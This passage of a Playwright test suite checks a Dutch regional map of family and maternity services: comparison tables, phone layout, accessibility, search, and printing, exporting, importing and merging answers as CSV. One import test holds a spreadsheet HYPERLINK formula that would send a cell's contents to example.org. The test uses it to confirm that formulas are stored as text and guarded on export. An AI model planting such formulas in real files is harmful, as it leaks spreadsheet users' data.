  return [d.region.id, d];
}));

area("pages");
await test("comparison: each cell says ja (with the region's own name), ontbreekt (required) or nee, as data.json has it", async () => {
  const page = await open("vergelijking.html");
  const cells = await page.evaluate(() => [...document.querySelectorAll("tr[data-catalog] td[data-region]")].map((td) => ({
    catalog: td.closest("tr").dataset.catalog, region: td.dataset.region, state: td.className,
    text: td.textContent.replace(/\s+/g, " ").trim(), href: td.querySelector("a") ? td.querySelector("a").getAttribute("href") : null,
    required: !!td.closest("tr").querySelector(".required-mark"),
  })));
  assert.ok(cells.length > 0, "no cells");
  const bad = [];
  let own = 0, missing = 0, absent = 0;
  for (const c of cells) {
    const d = regionData[c.region];
    const p = d.provisions.find((x) => x.id === c.catalog || x.catalog === c.catalog);
    if (p) {
      const catalogTitle = (await page.evaluate((id) => document.querySelector(`tr[data-catalog="${id}"] th span`).textContent, c.catalog));
      const want = p.title === catalogTitle ? "✓ ja" : `✓ ja: ${p.title}`;
      if (c.state !== "offered" || c.text !== want || !c.href.endsWith(`${c.region}/${p.id}.html`)) bad.push(`${c.catalog}@${c.region}: ${c.state} "${c.text}" ${c.href}, want offered "${want}"`);
      if (p.title !== catalogTitle) own++;
    } else if (d.gaps.missing.includes(c.catalog)) {
      missing++;
      if (c.state !== "missing" || c.text !== "✗ ontbreekt" || !c.required) bad.push(`${c.catalog}@${c.region}: ${c.state} "${c.text}", want missing "✗ ontbreekt"`);
    } else {
      absent++;
      if (c.state !== "absent" || c.text !== "– nee" || c.required) bad.push(`${c.catalog}@${c.region}: ${c.state} "${c.text}", want absent "– nee"`);
    }
  }
  assert.deepEqual(bad, [], bad.slice(0, 5).join("; "));
  const kroon = cells.find((c) => c.catalog === "mama-cafe" && c.region === REGION);
  assert.equal(kroon.text, "✓ ja: Mama-café De Kroon", "Mama-café in Utrecht West");
  assert.ok(own > 0 && missing > 0 && absent > 0, `own names ${own}, ontbreekt ${missing}, nee ${absent}: the example should show each`);
  const legend = await page.evaluate(() => document.querySelector(".compare-legend").textContent.replace(/\s+/g, " "));
  for (const w of ["ja", "ontbreekt", "verplicht", "nee"]) assert.ok(legend.includes(w), `legend lacks "${w}": ${legend}`);
  // Required and optional absence differ in more than colour: their words differ (checked above) and so do their tints.
  const tints = await page.evaluate(() => ["missing", "absent"].map((k) => getComputedStyle(document.querySelector(`td.${k}`)).backgroundColor));
  assert.notEqual(tints[0], tints[1], "ontbreekt and nee look the same");
  note(`comparison: ${cells.length} cells, ${own} under the region's own name, ${missing} ontbreekt, ${absent} nee`);
});

await test("comparison on a phone (390×844): every region column scrolls into view beside the provision column, which stays put", async () => {
  const page = await open("vergelijking.html", { phone: true });
  const regions = await page.evaluate(() => [...document.querySelectorAll(".compare-table thead a")].map((a) => a.textContent));
  assert.ok(regions.length >= 2, `${regions.length} region columns`);
  const hint = await page.evaluate(() => document.querySelector(".scroll-hint").checkVisibility());
  assert.ok(hint, "the 'Schuif de tabel opzij' hint is not shown on a phone");
  const home = await page.evaluate(() => document.querySelector(".compare-table tbody th").getBoundingClientRect().left);
  const bad = [];
  for (let i = 0; i < regions.length; i++) {
    // Keyboard focus on the region's link in the header, then on a cell's link.
    for (const sel of [`.compare-table thead th:nth-child(${i + 3}) a`, `tr[data-catalog="prenataal-huisbezoek"] td:nth-of-type(${i + 2}) a`]) {
      const r = await page.evaluate((sel) => {
        const el = document.querySelector(sel);
        if (!el) return { missing: true };
        el.focus();
        el.scrollIntoView({ block: "nearest", inline: "nearest" });
        const b = el.getBoundingClientRect(), line = el.getClientRects()[0]; // a name may wrap: look at its first line
        const x = line.left + Math.min(line.width, 40) / 2, y = line.top + line.height / 2;
        const hit = document.elementFromPoint(x, y);
        const rowHead = el.closest("tr").firstElementChild.getBoundingClientRect();
        return { left: b.left, right: b.right, vw: innerWidth, covered: !(hit && (el === hit || el.contains(hit))) ? (hit ? hit.outerHTML.slice(0, 80) : "nothing") : "",
          rowHeadLeft: rowHead.left, rowHeadRight: rowHead.right, scrollLeft: document.querySelector(".compare-wrap").scrollLeft };
      }, sel);
      if (r.missing) { bad.push(`${sel}: not found`); continue; }
      if (r.left < 0 || r.left > r.vw - 20 || r.covered) bad.push(`${regions[i]} (${sel}): at ${Math.round(r.left)}-${Math.round(r.right)} of ${r.vw}, covered: ${r.covered}`);
      if (r.left < r.rowHeadRight - 1) bad.push(`${regions[i]}: under the provision column (${Math.round(r.left)} < ${Math.round(r.rowHeadRight)})`);
      if (Math.abs(r.rowHeadLeft - home) > 1) bad.push(`${regions[i]}: the provision column moved to ${Math.round(r.rowHeadLeft)} (scrollLeft ${r.scrollLeft})`);
    }
  }
  assert.deepEqual(bad, [], bad.join("; "));
  const o = await overflow(page);
  assert.ok(o.scrollWidth <= o.clientWidth, `the page scrolls sideways: ${o.scrollWidth} > ${o.clientWidth}`);
  await page.screenshot({ path: join(SHOTS, "compare-phone-scrolled.png"), fullPage: true });
});

await test("axe on the phone (390 px): comparison page", async () => {
  const page = await open("vergelijking.html", { phone: true });
  const v = await runAxe(page, AXE_TAGS);
  assert.equal(v.length, 0, axeReport(v));
});

// Words families and referrers type, and a provider's name and a route's title.
for (const q of ["tiener", "alleenstaand", "wachtlijst", "arabisch"]) {
  await test(`search finds the words people use: "${q}"`, async () => {
    const page = await gotoMap();
    await page.fill("#f-q", q);
    const want = await assertView(page, { q }, `q=${q}`);
    assert.ok(want.length > 0, `nothing in data.json for "${q}"`);
    note(`"${q}": ${want.join(", ")}`);
  });
}

await test("search: a provider's name finds its provisions, a route's title finds every step of that route", async () => {
  const withProvider = region.provisions.filter((p) => p.provider && p.provider.name === "Welzijn Utrecht West").map((p) => p.id).sort();
  assert.ok(withProvider.length > 0, "no provision of Welzijn Utrecht West");
  let page = await gotoMap();
  await page.fill("#f-q", "welzijn utrecht west");
  let got = await assertView(page, { q: "welzijn utrecht west" }, "provider");
  assert.deepEqual(withProvider.filter((id) => !got.includes(id)), [], "provisions of the provider not found");
  const route = data.routes.find((r) => r.id === "zwangere-met-geldzorgen");
  const steps = [...new Set(route.steps.map((s) => s.provision))].sort();
  page = await gotoMap();
  await page.fill("#f-q", "zwangere met geldzorgen");
  got = await assertView(page, { q: "zwangere met geldzorgen" }, "route title");
  assert.deepEqual(steps.filter((id) => !got.includes(id)), [], `steps of "${route.title}" not found`);
  // Without the route's title, most steps do not hold these words at all.
  const byOwnText = region.provisions.filter((p) => steps.includes(p.id) &&
    ["zwangere", "geldzorgen"].every((t) => [p.title, p.summary, ...(p.keywords || []), p.audience].some((f) => f && f.toLowerCase().includes(t)))).length;
  assert.ok(byOwnText < steps.length, "the route title adds nothing here; pick another route");
  note(`"${route.title}" finds ${got.length} provisions (${steps.length} steps; ${byOwnText} by their own text)`);
});

await test("guidance: previous/next between the steps, in weight order, in a nav with a Dutch label", async () => {
  const home = await open("");
  const pages = await home.evaluate(() => [...document.querySelectorAll("#handreikingen + ul a")].map((a) => ({ url: a.getAttribute("href"), title: a.textContent })));
  assert.ok(pages.length >= 3, `${pages.length} guidance pages`);
  const bad = [];
  for (let i = 0; i < pages.length; i++) {
    const page = await open(pages[i].url.replace(BASE, ""));
    const nav = await page.evaluate(() => {
      const n = document.querySelector("nav.step-nav");
      if (!n) return null;
      const link = (rel) => { const a = n.querySelector(`a[rel=${rel}]`); return a ? { url: a.getAttribute("href"), title: a.querySelector(".step-title").textContent } : null; };
      return { label: n.getAttribute("aria-label"), of: n.querySelector(".step-of").textContent, prev: link("prev"), next: link("next") };
    });
    if (!nav) { bad.push(`${pages[i].url}: no nav.step-nav`); continue; }
    if (nav.label !== "Vorige en volgende handreiking") bad.push(`${pages[i].url}: label ${nav.label}`);
    if (nav.of !== `Stap ${i + 1} van ${pages.length}`) bad.push(`${pages[i].url}: "${nav.of}"`);
    const want = (j) => (j < 0 || j >= pages.length ? null : pages[j]);
    for (const [k, j] of [["prev", i - 1], ["next", i + 1]]) {
      const w = want(j), g = nav[k];
      if (JSON.stringify(g) !== JSON.stringify(w)) bad.push(`${pages[i].url}: ${k} ${JSON.stringify(g)}, want ${JSON.stringify(w)}`);
    }
  }
  assert.deepEqual(bad, [], bad.join("; "));
  // A region with a single guidance page shows no steps.
  const single = await open(`${REGION}/guidance/aanmelden-knooppunt.html`);
  assert.equal(await single.locator("nav.step-nav").count(), 0, "a single page has no previous/next");
  note(`guidance steps: ${pages.map((p) => p.title).join(" → ")}`);
});

async function homeView(page) {
  return page.evaluate(() => ({
    shown: [...document.querySelectorAll(".region-list > [data-region]")].filter((li) => li.checkVisibility()).map((li) => li.dataset.region).sort(),
    count: document.querySelector("#region-count").textContent.replace(/\s+/g, " ").trim(),
    none: document.querySelector(".region-none").checkVisibility(),
    box: document.querySelector(".region-search").checkVisibility(),
  }));
}

await test("home: the region search finds a region by municipality (any case, accents, punctuation) and hides the others, with a live count", async () => {
  const page = await open("");
  const all = Object.keys(regionData).sort();
  let v = await homeView(page);
  assert.ok(v.box, "search box not shown with JavaScript");
  assert.deepEqual(v.shown, all);
  assert.equal(v.count, `${all.length} van ${all.length} regio's`);
  for (const [q, want] of [["Woerden", ["utrecht-west"]], ["hulst", ["zeeuws-vlaanderen"]], ["HÜLST", ["zeeuws-vlaanderen"]],
    ["oudewater", ["utrecht-west"]], ["zeeuws vlaanderen", ["zeeuws-vlaanderen"]], ["terneu", ["zeeuws-vlaanderen"]], ["utrecht west", ["utrecht-west"]]]) {
    await page.fill("#region-q", q);
    v = await homeView(page);
    assert.deepEqual(v.shown, want, `"${q}"`);
    assert.equal(v.count, `${want.length} van ${all.length} regio's`, `"${q}" count`);
    assert.equal(v.none, false, `"${q}": 'Geen regio gevonden' shown`);
  }
  await page.fill("#region-q", "Amsterdam");
  v = await homeView(page);
  assert.deepEqual(v.shown, []);
  assert.equal(v.count, `0 van ${all.length} regio's`);
  assert.ok(v.none, "'Geen regio gevonden' not shown");
  await page.screenshot({ path: join(SHOTS, "home-none-desktop.png"), fullPage: true });
  await page.click("#region-clear");
  v = await homeView(page);
  assert.deepEqual(v.shown, all, "the way out shows every region again");
  assert.equal(await page.evaluate(() => document.activeElement.id), "region-q");
  await page.fill("#region-q", "Woerden");
  const axe = await runAxe(page, AXE_TAGS);
  assert.equal(axe.length, 0, axeReport(axe));
});

await test("home without JavaScript: every region with its municipalities, no search box that cannot work", async () => {
  const page = await open("", { js: false });
  const v = await page.evaluate(() => ({
    box: document.querySelector(".region-search").checkVisibility(),
    cards: [...document.querySelectorAll(".region-list > [data-region]")].filter((li) => li.checkVisibility()).map((li) => li.textContent.replace(/\s+/g, " ")),
  }));
  assert.equal(v.box, false);
  assert.equal(v.cards.length, Object.keys(regionData).length);
  for (const d of Object.values(regionData))
    for (const m of d.region.municipalities) assert.ok(v.cards.some((c) => c.includes(d.region.name) && c.includes(m)), `${m} not under ${d.region.name}`);
});

await test("screenshots: comparison and home at 1024×768, 1366×768, 1920×1080 and 390×844", async () => {
  for (const [w, h] of [[1024, 768], [1366, 768], [1920, 1080], [390, 844]]) {
    for (const [name, path, q] of [["compare", "vergelijking.html"], ["home", ""], ["home-woerden", "", "Woerden"]]) {
      const page = await open(path, { viewport: { width: w, height: h }, ...(w < 640 ? { phone: true } : {}) });
      if (q) await page.fill("#region-q", q);
      await page.screenshot({ path: join(SHOTS, `find-${name}-${w}.png`), fullPage: true });
    }
    await closePages();
  }
  note(`screenshots in ${SHOTS}/find-*.png`);
});

// ---- answers: the printed summary, the CSV with region and date, import and merge (issue 10) ----

const ANS_KEY = `routekaart:${REGION}:antwoorden`;
const ANS_DIR = join(OUT_DIR, "answers");
mkdirSync(ANS_DIR, { recursive: true });
// Every question of the region in page order, with the id the page stores
// it under (its stage and its number in the stage, from 1).
const ANS_QUESTIONS = region.stages.flatMap((s) => region.questionsOf(s.id).map((text, index) =>
  ({ stage: s.id, label: s.label, index, id: `${s.id}-${index + 1}`, text })));
const ansQuestion = (id) => ANS_QUESTIONS.find((q) => q.id === id);
const LONG_NOTE = [
  "Besproken in het coalitieoverleg van maart. Dit is de hele toelichting, ook wat na de tweede regel komt;",
  "het scherm knipte die af.",
  "",
  "1. Verloskundigen in Woerden en Montfoort kennen het Knooppunt, in IJsselstein nog niet: \"we wisten niet dat het bestond\".",
  "2. De wachtlijst voor het prenataal huisbezoek is zes weken; de GGD zoekt een tweede verpleegkundige.",
  "3. Actie: het Knooppunt stuurt vóór 1 mei een folder naar alle praktijken, en de wethouder krijgt een brief.",
  "4. Volgende keer bespreken: cijfers van het eerste kwartaal, de wachttijd en wie de overdracht naar de kraamzorg regelt.",
  "Laatste regel van de toelichting, met een lang woord: kraamzorgindicatieprotocol.",
].join("\n");
// What the summary and round-trip tests answer; the rest stays unanswered.
const ANS_SOME = [
  { id: "zwangerschap-2", answer: "ja", note: LONG_NOTE },
  { id: "bevalling-2", answer: "nee", note: "Geen kraamzorg zonder aanvullende verzekering; de gemeente betaalt niet mee." },
  { id: "babyfase-1", answer: "deels", note: "" },
  { id: "schoolkind-1", answer: "", note: "Alleen een toelichting, nog geen antwoord." },
];

// A page of the tool whose clock stands still at `when`, so the dates the
// page stores and prints are known; a new context is a new laptop (its own
// localStorage).
async function answersPage(when, regionId = REGION) {
  const page = await open(null);
  await page.clock.setFixedTime(when);
  await page.goto(U(`${regionId}/?mode=tool&step=1`));
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  return page;
}

// Answers as a person gives them: to the stage's step of the tool, a radio, the note.
async function answerVia(page, entries, regionId = REGION) {
  for (const e of entries) {
    const stage = e.id.replace(/-\d+$/, "");
    const index = Number(e.id.slice(stage.length + 1)) - 1;
    const step = region.stages.findIndex((s) => s.id === stage) + 1;
    if ((await page.evaluate(() => new URLSearchParams(location.search).get("step"))) !== String(step)) {
      await page.goto(U(`${regionId}/?mode=tool&step=${step}`));
      await page.waitForFunction(() => document.documentElement.classList.contains("js"));
    }
    const item = page.locator(`.question[data-stage="${stage}"]`).nth(index);
    if (e.answer) await item.locator(`input[type=radio][value="${e.answer}"]`).check();
    if (e.note) await item.locator("textarea").fill(e.note);
  }
}

const storedAnswers = (page, key = ANS_KEY) => page.evaluate((k) => JSON.parse(localStorage.getItem(k) || "{}"), key);

// What the form fields show: {id: {answer, note}} for every question with either.
const formAnswers = (page) => page.evaluate(() => {
  const out = {};
  for (const li of document.querySelectorAll(".question")) {
    const picked = li.querySelector("input[type=radio]:checked");
    const note = li.querySelector("textarea").value;
    if (picked || note) out[`${li.dataset.stage}-${li.dataset.question}`] = { answer: picked ? picked.value : "", note };
  }
  return out;
});

async function exportAnswers(page, name) {
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#q-export")]);
  const file = join(ANS_DIR, name);
  await download.saveAs(file);
  return { file, text: readFileSync(file, "utf8") };
}

// The status line after importing `files` (a path or {name, mimeType, buffer}).
async function importAnswers(page, files) {
  await page.evaluate(() => { document.querySelector("#q-import-status").textContent = ""; });
  await page.setInputFiles("#q-import", files);
  await page.waitForFunction(() => document.querySelector("#q-import-status").textContent !== "");
  return (await page.textContent("#q-import-status")).trim();
}

const csvFile = (name, text) => ({ name, mimeType: "text/csv", buffer: Buffer.from(text, "utf8") });

// A CSV reader of its own (RFC 4180 with ';'), to read what the page exports.
function readCsv(text) {
  const rows = [];
  let row = [], cell = "", quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ";") { row.push(cell); cell = ""; }
    else if (c === "\r" && text[i + 1] === "\n") { row.push(cell); rows.push(row); row = []; cell = ""; i++; }
    else cell += c;
  }
  assert.ok(!quoted && cell === "" && row.length === 0, "the CSV ends inside a row or a quoted cell");
  return rows;
}

// A CSV cell written by hand the way a spreadsheet writes it (no formula guard).
const cell = (text) => (/[";\r\n]/.test(text) ? '"' + text.replace(/"/g, '""') + '"' : text);
const csvLine = (cells) => cells.map(cell).join(";") + "\r\n";
const CSV_HEAD = "\ufeffregio;fase;vraag;antwoord;toelichting;datum\r\n";

const squashText = (t) => t.normalize("NFKC").replace(/\s+/g, " ").trim();

area("answers");
await test("answers: 'Antwoorden printen' (by keyboard) prints a summary, A4 portrait, default settings: region, date, every question with its answer or 'niet beantwoord' and the whole note; afterwards the page prints as the A3 poster again", async () => {
  const page = await answersPage(new Date(2026, 2, 5, 14, 30));
  const onPage = await page.evaluate(() => [...document.querySelectorAll(".question .q-text")].map((p) => p.textContent));
  assert.deepEqual(onPage, ANS_QUESTIONS.map((q) => q.text), "questions on the page differ from data.json");
  await answerVia(page, ANS_SOME);
  // window.print() would open the dialog; the summary mode is what it prints.
  await page.evaluate(() => { window.print = () => { window.__printed = (window.__printed || 0) + 1; }; });
  await page.locator("#q-print").focus();
  await page.keyboard.press("Enter");
  assert.equal(await page.evaluate(() => window.__printed), 1, "Enter on 'Antwoorden printen' did not call print()");
  assert.ok(await page.evaluate(() => document.body.classList.contains("print-answers")), "no print-answers class while printing");
  assert.equal(await page.locator("#antwoorden").isVisible(), false, "the summary shows on screen");
  const pdf = await page.pdf({ preferCSSPageSize: true, printBackground: false });
  const pdfFile = join(OUT_DIR, "answers-summary.pdf");
  writeFileSync(pdfFile, pdf);
  execFileSync("pdftoppm", ["-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile", pdfFile, join(OUT_DIR, "answers-summary")]);
  const [w, h] = pdfFirstPageSize(pdf);
  const pages = pdfPages(pdf);
  note(`answers summary: ${pages} A4 page(s), ${w.toFixed(0)} × ${h.toFixed(0)} pt; page 1 in ${join(OUT_DIR, "answers-summary.png")}`);
  assert.ok(Math.abs(w - 595.28) < 2 && Math.abs(h - 841.89) < 2, `first page ${w} × ${h} pt, not A4 portrait`);
  // 22 questions, one long note: two or three pages, not the five of the poster form.
  assert.ok(pages >= 1 && pages <= 3, `${pages} pages`);
  const text = squashText(execFileSync("pdftotext", ["-enc", "UTF-8", pdfFile, "-"]).toString("utf8"));
  assert.ok(text.includes(data.region.name), `region name '${data.region.name}' not in the PDF`);
  assert.ok(text.includes("5 maart 2026"), "today's date (5 maart 2026) not in the PDF");
  const count = `${ANS_SOME.filter((e) => e.answer).length} van ${ANS_QUESTIONS.length} vragen beantwoord`;
  assert.ok(text.includes(count), `'${count}' not in the PDF`);
  // Each stage, then each of its questions in order with its answer and note.
  let at = 0;
  for (const q of ANS_QUESTIONS) {
    const given = ANS_SOME.find((e) => e.id === q.id) || { answer: "", note: "" };
    if (q.index === 0) {
      const s = text.indexOf(squashText(q.label), at);
      assert.ok(s >= 0, `stage '${q.label}' not in the PDF (after position ${at})`);
      at = s;
    }
    const want = squashText(`${q.text} Antwoord: ${given.answer || "niet beantwoord"}` + (given.note ? ` Toelichting: ${given.note}` : ""));
    const found = text.indexOf(want, at);
    assert.ok(found >= 0, `${q.id}: '${want.slice(0, 120)}…' not in the PDF in order`);
    at = found + want.length;
  }
  const unanswered = ANS_QUESTIONS.length - ANS_SOME.filter((e) => e.answer).length;
  assert.equal(text.split("niet beantwoord").length - 1, unanswered, "'niet beantwoord' once per unanswered question");
  for (const poster of ["Legenda", "Hiaten", "Klantroutes", "Over deze routekaart"]) assert.ok(!text.includes(poster), `'${poster}' of the page is in the summary`);
  // The dialog closed: the region page prints as the poster again.
  await page.evaluate(() => window.dispatchEvent(new Event("afterprint")));
  assert.ok(!(await page.evaluate(() => document.body.classList.contains("print-answers"))), "print-answers stays after printing");
  const [pw, ph] = pdfFirstPageSize(await page.pdf({ preferCSSPageSize: true, printBackground: false }));
  assert.ok(Math.abs(pw - 1190.55) < 2 && Math.abs(ph - 841.89) < 2, `after the summary the page prints ${pw} × ${ph} pt, not the A3 poster`);
});

await test("answers: the CSV has region and date columns; storage cleared and the file imported back, the stored answers are the same", async () => {
  const page = await answersPage(new Date(2026, 2, 5, 14, 30));
  await answerVia(page, ANS_SOME);
  const original = await storedAnswers(page);
  assert.equal(Object.keys(original).length, ANS_SOME.length, "answers stored");
  const { file, text } = await exportAnswers(page, "round-trip.csv");
  assert.ok(text.startsWith("\ufeff"), "byte order mark");
  const rows = readCsv(text.slice(1));
  assert.deepEqual(rows[0], ["regio", "fase", "vraag", "antwoord", "toelichting", "datum"], "header");
  assert.equal(rows.length, 1 + ANS_QUESTIONS.length, "one row per question");
  ANS_QUESTIONS.forEach((q, i) => {
    const given = ANS_SOME.find((e) => e.id === q.id);
    const want = [REGION, q.label, q.text, given ? given.answer : "", given ? given.note : "", given ? "2026-03-05 14:30" : ""];
    assert.deepEqual(rows[i + 1], want, `row of ${q.id}`);
  });
  await page.evaluate(() => localStorage.clear());
  await page.reload();
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  assert.deepEqual(await formAnswers(page), {}, "answers left after clearing storage");
  assert.equal(await importAnswers(page, file), "4 antwoorden geïmporteerd.");
  assert.deepEqual(await storedAnswers(page), original, "stored answers after the round trip");
  const form = Object.fromEntries(ANS_SOME.map((e) => [e.id, { answer: e.answer, note: e.note }]));
  assert.deepEqual(await formAnswers(page), form, "the form after the import");
  // The same file once more changes nothing.
  assert.equal(await importAnswers(page, file), "4 antwoorden geïmporteerd.");
  assert.deepEqual(await storedAnswers(page), original, "stored answers after importing the file twice");
});

await test("answers: two laptops merged: the newer answer wins, an empty row never empties an answer, two notes are both kept", async () => {
  const [q1, q2, q3] = ["zwangerschap-4", "bevalling-1", "babyfase-3"];
  const a = await answersPage(new Date(2026, 2, 5, 10, 0));
  await answerVia(a, [{ id: q1, answer: "ja", note: "Laptop A: de verloskundigen kennen de weg." }, { id: q2, answer: "nee", note: "" }]);
  const b = await answersPage(new Date(2026, 2, 5, 15, 45));
  await answerVia(b, [{ id: q1, answer: "deels", note: "Laptop B: in IJsselstein nog niet; \"wie is dat?\"" }, { id: q3, answer: "ja", note: "Laptop B:\nzie het verslag." }]);
  const fromA = await exportAnswers(a, "laptop-a.csv");
  const fromB = await exportAnswers(b, "laptop-b.csv");
  assert.equal(await importAnswers(a, fromB.file), "2 antwoorden geïmporteerd.", "B into A");
  const merged = {
    [q1]: { answer: "deels", note: "Laptop A: de verloskundigen kennen de weg.\n\nLaptop B: in IJsselstein nog niet; \"wie is dat?\"", date: "2026-03-05 15:45" },
    [q2]: { answer: "nee", note: "", date: "2026-03-05 10:00" },
    [q3]: { answer: "ja", note: "Laptop B:\nzie het verslag.", date: "2026-03-05 15:45" },
  };
  assert.deepEqual(await storedAnswers(a), merged, "A after importing B");
  assert.equal(await importAnswers(a, fromB.file), "2 antwoorden geïmporteerd.", "B into A again");
  assert.deepEqual(await storedAnswers(a), merged, "importing the same file twice changed the answers");
  // The older answers of A do not override B's newer one; the note of A is added.
  assert.equal(await importAnswers(b, fromA.file), "2 antwoorden geïmporteerd.", "A into B");
  assert.deepEqual(await storedAnswers(b), {
    [q1]: { answer: "deels", note: "Laptop B: in IJsselstein nog niet; \"wie is dat?\"\n\nLaptop A: de verloskundigen kennen de weg.", date: "2026-03-05 15:45" },
    [q2]: { answer: "nee", note: "", date: "2026-03-05 10:00" },
    [q3]: { answer: "ja", note: "Laptop B:\nzie het verslag.", date: "2026-03-05 15:45" },
  }, "B after importing A");
  // A newer row that holds only a note adds the note and keeps the answer.
  const q2q = ansQuestion(q2);
  const noteOnly = csvFile("alleen-toelichting.csv",
    CSV_HEAD + csvLine([REGION, q2q.label, q2q.text, "", "Alleen een toelichting.", "2026-03-06 09:00"]));
  assert.equal(await importAnswers(b, noteOnly), "1 antwoord geïmporteerd.", "a row with only a note");
  assert.deepEqual((await storedAnswers(b))[q2], { answer: "nee", note: "Alleen een toelichting.", date: "2026-03-06 09:00" },
    "a newer row with only a note emptied the stored answer");
});

await test("answers: import keeps a formula as text, counts unknown questions and malformed rows, reads ',' and LF and Excel's Windows-1252, refuses another region's file and a file that is no export", async () => {
  const page = await answersPage(new Date(2026, 2, 5, 14, 30));
  const [z1, z2, z3] = ["zwangerschap-1", "zwangerschap-2", "zwangerschap-3"].map(ansQuestion);
  const b1 = ansQuestion("bevalling-1");
  const formula = '=HYPERLINK("https://example.org/?"&A1;"klik")';
  const text = CSV_HEAD +
    csvLine([REGION, z1.label, z1.text, "ja", formula, "2026-03-05 09:00"]) +         // typed in a spreadsheet: no guard
    csvLine([REGION, z2.label, z2.text, "Nee", "'=1+1", "5-3-2026 09:00"]) +         // as exported (guard), saved by Dutch Excel
    csvLine([REGION, z1.label, "Bestaat deze vraag wel?", "ja", "", "2026-03-05 09:00"]) + // unknown question
    csvLine([REGION, z3.label, z3.text, "misschien", "", "2026-03-05 09:00"]) +      // not ja/deels/nee
    csvLine([REGION, z3.label, z3.text, "ja"]) +                                    // cells missing
    csvLine([REGION, z3.label, z3.text, "ja", "", "gisteren"]) +                     // no date
    `${REGION};${b1.label};${cell(b1.text)};ja;"nooit gesloten\r\n`;                 // a quote that never closes
  assert.equal(await importAnswers(page, csvFile("handwerk.csv", text)),
    "2 antwoorden geïmporteerd, 1 onbekende vraag genegeerd, 4 regels overgeslagen.");
  const want = {
    [z1.id]: { answer: "ja", note: formula, date: "2026-03-05 09:00" },
    [z2.id]: { answer: "nee", note: "=1+1", date: "2026-03-05 09:00" },
  };
  assert.deepEqual(await storedAnswers(page), want, "stored after the hand-made CSV");
  assert.deepEqual(await formAnswers(page), { [z1.id]: { answer: "ja", note: formula }, [z2.id]: { answer: "nee", note: "=1+1" } }, "form");
  // Exported again, both formulas are guarded.
  const again = await exportAnswers(page, "formula-again.csv");
  const lines = again.text.split("\r\n");
  assert.ok(lines.some((l) => l.endsWith(`;ja;"'=HYPERLINK(""https://example.org/?""&A1;""klik"")";2026-03-05 09:00`)), "formula not guarded in the export");
  assert.ok(lines.some((l) => l.endsWith(`;nee;"'=1+1";2026-03-05 09:00`)), "=1+1 not guarded in the export");

  // ',' as separator, LF line ends, no byte order mark (a spreadsheet with English settings).
  const comma = `regio,fase,vraag,antwoord,toelichting,datum\n${REGION},${z3.label},"${z3.text}",deels,"a, b; en ""c""",2026-03-06 08:00\n`;
  assert.equal(await importAnswers(page, csvFile("komma.csv", comma)), "1 antwoord geïmporteerd.");
  assert.deepEqual((await storedAnswers(page))[z3.id], { answer: "deels", note: 'a, b; en "c"', date: "2026-03-06 08:00" });

  // Saved by Excel as plain "CSV": Windows-1252, no byte order mark.
  const p2 = ansQuestion("preconceptie-2");
  assert.ok(/[^\x00-\x7f]/.test(p2.text), `${p2.id} has no accented letter to test with`);
  const ansi = Buffer.from(`regio;fase;vraag;antwoord;toelichting;datum\r\n${REGION};${p2.label};${p2.text};ja;Geëvalueerd, vóór de zomer;06-03-2026 08:00\r\n`, "latin1");
  assert.equal(await importAnswers(page, { name: "excel.csv", mimeType: "text/csv", buffer: ansi }), "1 antwoord geïmporteerd.");
  assert.deepEqual((await storedAnswers(page))[p2.id], { answer: "ja", note: "Geëvalueerd, vóór de zomer", date: "2026-03-06 08:00" });

  // The export of another region is refused whole, with a message naming it.
  const other = await answersPage(new Date(2026, 2, 5, 14, 30), "zeeuws-vlaanderen");
  await answerVia(other, [{ id: "zwangerschap-1", answer: "nee", note: "Zeeuws-Vlaanderen" }], "zeeuws-vlaanderen");
  const otherFile = await exportAnswers(other, "other-region.csv");
  const before = await storedAnswers(page);
  assert.equal(await importAnswers(page, otherFile.file),
    "Dit bestand bevat antwoorden van een andere regio (zeeuws-vlaanderen). Er is niets geïmporteerd.");
  assert.ok(await page.evaluate(() => document.querySelector("#q-import-status").classList.contains("refused")), "refusal not marked");
  assert.deepEqual(await storedAnswers(page), before, "another region's file changed the answers");
  // The export as it was before region and date (or any other CSV): refused, the missing column named.
  assert.equal(await importAnswers(page, csvFile("oud.csv", "\ufefffase;vraag;antwoord;toelichting\r\nZwangerschap;x;ja;\r\n")),
    "Dit bestand is geen export van de evaluatieve vragen: de kolom ‘regio’ ontbreekt. Er is niets geïmporteerd.");
  assert.deepEqual(await storedAnswers(page), before, "a file without the columns changed the answers");
});

await test("answers: import by keyboard (Tab reaches it, focus visible, Enter opens the file chooser), the result in a status region, axe clean", async () => {
  const page = await gotoMap("?mode=tool&step=1");
  // Waiting for the chooser from the start: Playwright must be listening
  // before the key press, or the dialog may open unseen.
  const opened = page.waitForEvent("filechooser");
  opened.catch(() => {});
  await page.locator("#q-export").focus();
  await page.keyboard.press("Tab");
  const f = await focused(page);
  assert.equal(f.id, "q-import-button", `Tab after the export button focuses ${f.tag}#${f.id}`);
  assert.ok(visibleFocus(f), `focus on the import button not visible (outline ${f.outline}, box-shadow ${f.boxShadow})`);
  const q = ansQuestion("preconceptie-2");
  await page.keyboard.press("Enter");
  const chooser = await opened;
  await chooser.setFiles(csvFile("toetsenbord.csv", CSV_HEAD + csvLine([REGION, q.label, q.text, "ja", "via het toetsenbord", "2026-03-05 09:00"])));
  await page.waitForFunction(() => document.querySelector("#q-import-status").textContent !== "");
  assert.equal((await page.textContent("#q-import-status")).trim(), "1 antwoord geïmporteerd.");
  assert.equal(await page.getAttribute("#q-import-status", "role"), "status", "the result is not in a live region");
  assert.deepEqual(await formAnswers(page), { [q.id]: { answer: "ja", note: "via het toetsenbord" } });
  await page.keyboard.press("Tab");
  assert.equal((await focused(page)).id, "q-print", "Tab after the import button");
  const v = await runAxe(page, AXE_TAGS);
  assert.equal(v.length, 0, `tool with the import result shown: ${axeReport(v)}`);
  await page.screenshot({ path: join(SHOTS, "answers-import-desktop.png"), fullPage: false });
});

// ---- A4 flyer (issue 10) ----
// A provision page printed as Chrome prints it by default (A4, no
// background graphics): one page, the region named, the page's published
// address in the text and in a QR code that a scanner (zbarimg) reads back.
const PUBLIC_URL = (/^public_url:\s*(\S+)\s*$/m.exec(readFileSync(join(SOURCE_DIR, "content", "site.yaml"), "utf8")) || [])[1];

